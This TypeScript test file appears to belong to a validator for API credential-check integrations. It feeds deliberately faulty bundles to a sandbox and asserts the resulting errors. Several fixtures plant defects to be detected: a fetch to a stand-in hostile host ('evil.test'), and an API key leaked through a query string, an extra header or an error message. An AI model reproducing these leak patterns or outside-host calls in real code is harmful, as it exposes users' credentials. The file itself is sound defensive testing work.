import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { defineFixtures, type Fixtures, notApplicable } from './fixtures.ts'
import { reply } from './reply.ts'
import { runIntegrationTest } from './run-integration-test.ts'
import { startTestSandbox, type TestSandbox } from './test-sandbox.ts'

const fixtures = defineFixtures({
  endpoint: 'GET https://api.acme.test/me',
  sends: 'X-Key: ${api_key}',
  good: { id: 1 },
  identity: { id: '1', label: 'one' },
})

/** A hand-written bundle that is correct unless overridden. */
const createBundle = ({
  headers = "{ 'X-Key': config.api_key }",
  url = 'https://api.acme.test/me',
  code = '{ 401: "invalid_credentials", 403: "insufficient_scope", 429: "rate_limited" }[status] ?? "provider_unreachable"',
  error = '"No."',
  identity = '{ id: "1", label: "one" }',
} = {}) => `
const field = { type: 'string', title: 'Key', format: 'password' }
const input_specification = { type: 'object', properties: { api_key: field } }
module.exports = async (command, { config } = {}) => {
  if (command === 'SPEC') return { auth_specification: { Key: { input_specification } }, 'x-hosts': ['api.acme.test'] }
  if (command === 'HEADERS') return ${headers}
  if (command === 'IDENTITY') return ${identity}
  const { ok, status } = await fetch('${url}', { headers: ${headers} })
  return ok ? { status: true } : { status: false, error: ${error}, code: ${code}, retryable: status > 403 }
}`

describe('runIntegrationTest', () => {
  let sandbox: TestSandbox
  before(async () => {
    sandbox = await startTestSandbox()
  })
  after(() => sandbox.close())

  const testErrors = async (code: string, fixture: Fixtures = fixtures) =>
    (await runIntegrationTest(sandbox, code, fixture)).flatMap(({ title, errors }) =>
      errors.map((error) => `${title.replace('Key: ', '')}: ${error}`),
    )

  it('finds nothing wrong with a correct bundle', async () => {
    const results = await runIntegrationTest(sandbox, createBundle(), fixtures)
    assert.equal(results.length, 7)
    assert.deepEqual(await testErrors(createBundle()), [])
  })

  it('finds credentials that are not sent where the provider expects them', async () => {
    const errors = await testErrors(
      createBundle({ headers: "{ 'X-Key': 'Bearer ' + config.api_key }" }),
    )
    assert.ok(
      errors.includes('accepts good credentials: GET /me does not send the expected header X-Key'),
    )
    assert.ok(
      errors.includes(
        'returns the headers of a request: HEADERS does not return the expected X-Key',
      ),
    )
  })

  it('finds a request to an undeclared host, and does not send it', async () => {
    const errors = await testErrors(createBundle({ url: 'https://evil.test/?k=1' }))
    assert.ok(errors.includes('accepts good credentials: requested evil.test, which x-hosts lacks'))
    assert.deepEqual(sandbox.provider.requests, [])
  })

  it('finds a request that the provider does not document', async () => {
    const errors = await testErrors(createBundle({ url: 'https://api.acme.test/you' }))
    assert.match(
      errors.join('\n'),
      /requested GET https:\/\/api\.acme\.test\/you, which the fixtures do not describe/,
    )
  })

  it('finds misleading codes', async () => {
    const errors = await testErrors(createBundle({ code: "'invalid_credentials'" }))
    assert.deepEqual(errors, [
      'reports insufficient permissions: the code is invalid_credentials, not insufficient_scope',
      'reports rate limiting: the code is invalid_credentials, not rate_limited',
      'reports an unavailable provider: the code is invalid_credentials, not provider_unreachable',
    ])
  })

  it('finds a failure without a message', async () => {
    const silent = await testErrors(createBundle({ error: '""' }))
    assert.ok(silent.includes('rejects bad credentials: the check result has no error message'))
  })

  it('finds a check that sends no request, and a 429 that is not reported', async () => {
    const blindBundle = createBundle().replace(
      'const { ok, status } = await fetch',
      'const ok = true, status = 200; void',
    )
    assert.equal(
      (await testErrors(blindBundle)).filter((error) =>
        /sent no request to the provider/.test(error),
      ).length,
      5,
    )
    const neverRetryableBundle = createBundle().replace(
      'retryable: status > 403',
      'retryable: false',
    )
    assert.deepEqual(await testErrors(neverRetryableBundle), [
      'reports rate limiting: the check result is not retryable',
      'reports an unavailable provider: the check result is not retryable',
    ])
  })

  it('expects no codes of bundles without codes', async () => {
    const bundleWithoutCode = createBundle({ code: 'undefined' }).replace(
      'retryable: status > 403',
      '',
    )
    assert.notDeepEqual(await testErrors(bundleWithoutCode), [])
    assert.deepEqual(await testErrors(bundleWithoutCode, { ...fixtures, codes: 'none' }), [])
  })

  it('finds a wrong identity, or one that the fixtures do not describe', async () => {
    const identityErrors = await testErrors(createBundle({ identity: '{ id: 1, label: "one" }' }))
    assert.deepEqual(identityErrors, ['identifies the user: IDENTITY is {"id":1,"label":"one"}'])
    const { identity: _, ...less } = fixtures
    assert.deepEqual(await testErrors(createBundle(), less), [
      'identifies the user: the fixtures lack identity',
    ])
  })

  it('finds a message that quotes the credential, or the body of the response', async () => {
    const quoted = 'rejects bad credentials: the check result quotes a value of the configuration'
    const secretLeakErrors = await testErrors(
      createBundle({ error: '"Key " + config.api_key + " is wrong."' }),
    )
    assert.ok(secretLeakErrors.some((error) => error.startsWith(quoted)))
    const raw = await testErrors(createBundle({ error: '\'{"message":"no"}\'' }))
    assert.ok(raw.some((error) => /contains the response body instead/.test(error)))
    const fixturesWithConfig = { ...fixtures, config: { api_key: 'us19' } }
    assert.deepEqual(
      await testErrors(createBundle({ error: '"No, such as us19."' }), fixturesWithConfig),
      [],
    )
  })

  it('finds a failure that points to an unknown field', async () => {
    const unknownFieldBundle = createBundle().replace('retryable:', 'field: "api_kee", retryable:')
    const errors = await testErrors(unknownFieldBundle)
    assert.ok(
      errors.includes(
        'rejects bad credentials: the check result points to api_kee, which is not a field',
      ),
    )
    const validFieldBundle = createBundle().replace('retryable:', 'field: "api_key", retryable:')
    assert.deepEqual(await testErrors(validFieldBundle), [])
  })

  it('finds credentials that are also sent elsewhere', async () => {
    const inQuery = await testErrors(
      createBundle({
        url: "https://api.acme.test/me?k=' + encodeURIComponent(config.api_key) + '",
      }),
    )
    assert.ok(
      inQuery.includes('accepts good credentials: GET /me also sends the credential as query k'),
    )
    const duplicateSecretHeaders = "{ 'X-Key': config.api_key, 'X-Debug': config.api_key }"
    const inHeader = await testErrors(createBundle({ headers: duplicateSecretHeaders }))
    assert.ok(
      inHeader.includes(
        'accepts good credentials: GET /me also sends the credential as header x-debug',
      ),
    )
  })

  it('finds an identity for rejected credentials', async () => {
    const fetched = "await (await fetch('https://api.acme.test/me', { headers: SENT })).json()"
    const identity = `{ id: String((${fetched}).id), label: "one" }`
    const leakingBundle = createBundle({ identity }).replace('SENT', "{ 'X-Key': config.api_key }")
    const errors = await testErrors(leakingBundle)
    assert.deepEqual(errors, [
      'identifies the user: IDENTITY is {"id":"undefined","label":"one"} for bad credentials: it should throw',
    ])
  })

  it('finds a body other than the documented one', async () => {
    const post = createBundle().replace('{ headers:', '{ method: "POST", body: BODY, headers:')
    const createBodyBundle = (body: string, type: string) =>
      post.replace('BODY', body).replaceAll("'X-Key':", `'Content-Type': '${type}', 'X-Key':`)
    const endpoint = 'POST https://api.acme.test/me'
    const asJson = { ...fixtures, endpoint, json: { 'user.key': '${api_key}' } }
    const json = 'JSON.stringify({ user: { key: config.api_key } })'
    assert.deepEqual(await testErrors(createBodyBundle(json, 'application/json'), asJson), [])
    const identityErrors = await testErrors(
      createBodyBundle(json.replace('user', 'who'), 'application/json'),
      asJson,
    )
    assert.ok(
      identityErrors.includes(
        'accepts good credentials: POST /me does not send the expected user.key in its body',
      ),
    )
    const form = 'new URLSearchParams({ key: config.api_key }).toString()'
    const urlencoded = 'application/x-www-form-urlencoded'
    const asForm = { ...fixtures, endpoint, form: { key: '${api_key}' } }
    assert.deepEqual(await testErrors(createBodyBundle(form, urlencoded), asForm), [])
    const other = await testErrors(createBodyBundle(form, urlencoded), asJson)
    assert.ok(other.some((error) => error.endsWith(`POST /me sends ${urlencoded} instead of JSON`)))
  })

  it('finds an integration that accepts everything', async () => {
    const alwaysAcceptingBundle = createBundle().replace('ok ?', 'true ?')
    assert.equal(
      (await testErrors(alwaysAcceptingBundle)).filter((error) => /CHECK is/.test(error)).length,
      4,
    )
  })

  it('skips impossible outcomes, and says why', async () => {
    const withoutScopes = { ...fixtures, insufficient: notApplicable('There are no scopes.') }
    const results = await runIntegrationTest(sandbox, createBundle(), withoutScopes)
    assert.deepEqual(
      results.flatMap(({ skipReason }) => skipReason ?? []),
      ['There are no scopes.'],
    )
  })

  it('uses the responses in the fixtures', async () => {
    const fixturesWithCode = {
      ...fixtures,
      bad: reply(403),
      codes: { bad: 'insufficient_scope' },
    } as const
    assert.deepEqual(await testErrors(createBundle(), fixturesWithCode), [])
  })
})
